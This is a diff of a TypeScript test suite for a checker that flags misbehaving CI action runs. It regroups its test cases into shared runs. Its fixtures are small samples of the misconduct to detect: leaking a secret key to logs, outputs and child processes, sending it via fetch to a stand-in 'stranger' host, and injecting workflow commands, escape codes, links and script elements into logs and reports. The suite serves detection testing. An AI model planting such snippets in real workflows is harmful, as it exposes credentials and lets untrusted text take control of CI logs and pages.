@@ -69,99 +69,126 @@ describe.concurrent('the judge of the campaign', () => {
     expect(await judged(honest)).toBe('')
   })
 
-  const deeds: [deed: string, source: string, found: RegExp][] = [
-    ['prints the key', "console.log('key ' + key)", /leak: the key \(plain\) in stdout/],
+  // Deeds that do not hide each other are done by one run.
+  const runs: [deed: string, source: string, found: RegExp][][] = [
     [
-      'prints it in hex',
-      "console.log(Buffer.from(key).toString('hex'))",
-      /the key \(hex\) in stdout/,
-    ],
-    ['prints it to stderr', 'console.error(key)', /the key \(plain\) in stderr/],
-    ['makes an output of it', "output('model', key)", /the key \(plain\) in outputs/],
-    [
-      'saves it as state',
-      "append('GITHUB_STATE', 'a=' + key + '\\n')",
-      /the key \(plain\) in state/,
-    ],
-    ['prints the link', 'console.log(bundleUrl)', /leak: the link \(.*\) in stdout/],
-    [
-      'writes the signature into the summary',
-      "append('GITHUB_STEP_SUMMARY', '`' + Buffer.from('x' + signature).toString('base64') + '`')",
-      /leak: the link \(base64 at 1\) in the file .*step_summary/,
-    ],
-    [
-      'tells a stranger the key',
-      'await fetch(env.STRANGER, { headers: { key } })',
-      /a stranger received/,
-    ],
-    [
-      'hands its environment on',
-      "spawnSync('true')",
-      /leak: the key \(.*\) in the file .*children/,
-    ],
-    [
-      'gives the key as an argument',
-      "spawnSync('true', [key], { env: {} })",
-      /in the file .*children/,
+      ['prints the key', "console.log('key ' + key)", /leak: the key \(plain\) in stdout/],
+      [
+        'prints it in hex',
+        "console.log(Buffer.from(key).toString('hex'))",
+        /the key \(hex\) in stdout/,
+      ],
+      ['prints it to stderr', 'console.error(key)', /the key \(plain\) in stderr/],
+      ['makes an output of it', "output('model', key)", /the key \(plain\) in outputs/],
+      [
+        'saves it as state',
+        "append('GITHUB_STATE', 'a=' + key + '\\n')",
+        /the key \(plain\) in state/,
+      ],
+      ['prints the link', 'console.log(bundleUrl)', /leak: the link \(.*\) in stdout/],
+      [
+        'writes the signature into the summary',
+        "append('GITHUB_STEP_SUMMARY', '`' + Buffer.from('x' + signature).toString('base64') + '`')",
+        /leak: the link \(base64 at 1\) in the file .*step_summary/,
+      ],
+      [
+        'tells a stranger the key',
+        'await fetch(env.STRANGER, { headers: { key } })',
+        /a stranger received/,
+      ],
+      [
+        'hands its environment on',
+        "spawnSync('true')",
+        /leak: the key \(.*\) in the file .*children/,
+      ],
     ],
     [
-      'lets text be a command',
-      "console.log('::set-output name=a::' + marker)",
-      /injected: the command "::set-output/,
+      [
+        'lets text be a command',
+        "console.log('::set-output name=a::' + marker)",
+        /injected: the command "::set-output/,
+      ],
+      [
+        'lets text be an older one',
+        "console.log('x ##[error]' + marker)",
+        /injected: the command "x ##/,
+      ],
+      [
+        'lets text be an escape',
+        "console.log('\\u001b[31m' + marker)",
+        /the character U\+1b in the log/,
+      ],
+      [
+        'lets text be a link',
+        "append('GITHUB_STEP_SUMMARY', '[a](https://' + marker + '.example)')",
+        /injected: a link to https:\/\/evil/,
+      ],
+      [
+        'lets text be an element',
+        "append('GITHUB_STEP_SUMMARY', '<img src=x>')",
+        /the element html/,
+      ],
+      [
+        'lets text be a script of the report',
+        "const page = process.cwd() + '/page.html'; writeFileSync(page, '<script>' + marker); output('reportPath', page)",
+        /injected: the element script/,
+      ],
     ],
     [
-      'lets text be an older one',
-      "console.log('x ##[error]' + marker)",
-      /injected: the command "x ##/,
+      [
+        'gives the key as an argument',
+        "spawnSync('true', [key], { env: {} })",
+        /in the file .*children/,
+      ],
+      [
+        'leaves a file behind',
+        "writeFileSync(env.RUNNER_TEMP + '/bundle.part', 'x')",
+        /wrong: .*bundle\.part is left/,
+      ],
+      [
+        'leaves a temporary file',
+        "writeFileSync(env.TMPDIR + '/x', 'x')",
+        /the temporary file x is left/,
+      ],
+      [
+        'writes into the workspace',
+        "mkdirSync('.site.new-1')",
+        /\.site\.new-1\/ in the workspace is new/,
+      ],
+      [
+        'makes an output of another link',
+        "output('bundleUrl', 'https://x.example/')",
+        /another link than/,
+      ],
+      ['makes an output of another job', "output('jobId', 'another')", /the job another is none/],
     ],
     [
-      'lets text be an escape',
-      "console.log('\\u001b[31m' + marker)",
-      /the character U\+1b in the log/,
+      ['fails all the same', 'process.exitCode = 1', /exit code 1 with success/],
+      ['tells an error all the same', "console.log('::error title=X::X: y.')", /1 errors told/],
     ],
-    [
-      'lets text be a link',
-      "append('GITHUB_STEP_SUMMARY', '[a](https://' + marker + '.example)')",
-      /injected: a link to https:\/\/evil/,
-    ],
-    ['lets text be an element', "append('GITHUB_STEP_SUMMARY', '<img src=x>')", /the element html/],
-    [
-      'lets text be a script of the report',
-      "const page = process.cwd() + '/page.html'; writeFileSync(page, '<script>' + marker); output('reportPath', page)",
-      /injected: the element script/,
-    ],
-    [
-      'makes an output of another link',
-      "output('bundleUrl', 'https://x.example/')",
-      /another link than/,
-    ],
-    ['makes an output of another job', "output('jobId', 'another')", /the job another is none/],
-    ['fails all the same', 'process.exitCode = 1', /exit code 1 with success/],
-    ['tells an error all the same', "console.log('::error title=X::X: y.')", /1 errors told/],
-    ['tells of another outcome', "output('outcome', 'failed')", /ended with , not success/],
-    ['has a fault of its own', "throw new Error('oops')", /stderr: .*|exit code 1 with success/],
-    [
-      'leaves a file behind',
-      "writeFileSync(env.RUNNER_TEMP + '/bundle.part', 'x')",
-      /wrong: .*bundle\.part is left/,
-    ],
-    [
-      'leaves a temporary file',
-      "writeFileSync(env.TMPDIR + '/x', 'x')",
-      /the temporary file x is left/,
-    ],
-    [
-      'writes into the workspace',
-      "mkdirSync('.site.new-1')",
-      /\.site\.new-1\/ in the workspace is new/,
-    ],
-    ['hangs', 'setInterval(() => {}, 1000)', /hung beyond its deadline/],
+    [['tells of another outcome', "output('outcome', 'failed')", /ended with , not success/]],
+    [['has a fault of its own', "throw new Error('oops')", /stderr: (?:.|\n)*oops/]],
   ]
-  for (const [deed, source, found] of deeds) {
-    test(`finds a run that ${deed}`, patience, async () => {
-      expect(await judged(`${honest}${source}\n`)).toMatch(found)
-    })
+  for (const deeds of runs) {
+    let run: Promise<string> | undefined
+    for (const [deed, , found] of deeds) {
+      test(`finds a run that ${deed}`, patience, async () => {
+        run ??= judged(`${honest}${deeds.map(([, source]) => `${source}\n`).join('')}`)
+        expect(await run).toMatch(found)
+      })
+    }
   }
+
+  test('finds a run that hangs', patience, async () => {
+    const setting = { delivery: 'link', timeout: 1 } as const
+    const hanging = `${honest}setInterval(() => {}, 1000)\n`
+    expect(await judged(hanging, { setting })).toMatch(/hung beyond its deadline/)
+  })
+
+  test('finds a case whose fault nothing met, which proves nothing', patience, async () => {
+    const inject: FaultCase['inject'] = ({ store }) => store.fail(() => true, answerLost('reset'))
+    expect(await judged(honest, { inject })).toMatch(/a fault of the store was never met/)
+  })
 
   test(
     'finds a start that is sent again after one that may have been taken',
